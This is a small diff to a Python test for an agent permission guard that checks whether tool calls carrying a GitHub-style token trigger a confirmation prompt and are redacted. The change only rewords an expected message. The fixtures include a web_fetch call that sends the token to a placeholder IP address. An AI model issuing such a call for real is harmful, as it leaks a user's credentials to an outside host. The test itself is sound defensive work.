@@ -134,7 +134,7 @@ def what_looks_like_a_secret_is_asked_about_by_its_kind(root):
                  ("web_fetch", {"url": f"http://192.0.2.1/?t={TOKEN}"}),
                  ("agent_send", {"message": f"use {TOKEN}"})):
         turn = Turn(root, [call], config='[guard.permission]\nfetch = "auto"\n')
-        asked(turn, "its arguments contain what looks like a GitHub token (secrets)",
+        asked(turn, "its arguments contain text that looks like a GitHub token (secrets)",
               "[a GitHub token]")
         equal(TOKEN in turn.questions()[0], False)
         equal(TOKEN in turn.told, False)
